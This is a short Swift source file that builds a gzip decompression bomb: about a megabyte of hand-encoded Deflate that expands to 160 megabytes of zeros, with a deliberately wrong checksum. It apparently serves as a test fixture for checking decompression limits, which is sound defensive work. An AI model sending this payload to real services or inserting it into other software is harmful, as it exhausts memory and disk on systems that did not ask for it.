/// A megabyte of gzip (RFC 1952) that unpacks to 160 megabytes of zeros.
///
/// One block of fixed Huffman codes (RFC 1951 §3.2.6): a zero, then "258 bytes like the last one" over and over, which
/// is 13 bits. The checksum at the end is wrong: whoever comes to compare it has unpacked everything.
public enum GzipBomb {
    public static let bytes: [UInt8] = {
        var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        var (buffer, count) = (UInt32(0), UInt32(0))
        // Codes begin with their most significant bit, bytes fill from the least significant.
        func put(_ code: String) {
            for bit in code {
                buffer |= (bit == "1" ? 1 : 0) << count
                count += 1
                guard count == 8 else { continue }
                bytes.append(UInt8(buffer))
                (buffer, count) = (0, 0)
            }
        }
        // Last block, fixed codes; the literal zero.
        put("1" + "10" + "00110000")
        // Length 258 (symbol 285), distance 1. Eight of them are thirteen whole bytes wherever they begin.
        let copies = "1100010100000"
        for _ in 0..<16 { put(copies) }
        let period = bytes.suffix(13)
        for _ in 0..<80_000 { bytes += period }
        // The end of the block, and enough to fill the last byte.
        put("0000000" + "0000000")
        return bytes + [UInt8](repeating: 0, count: 8)
    }()
}
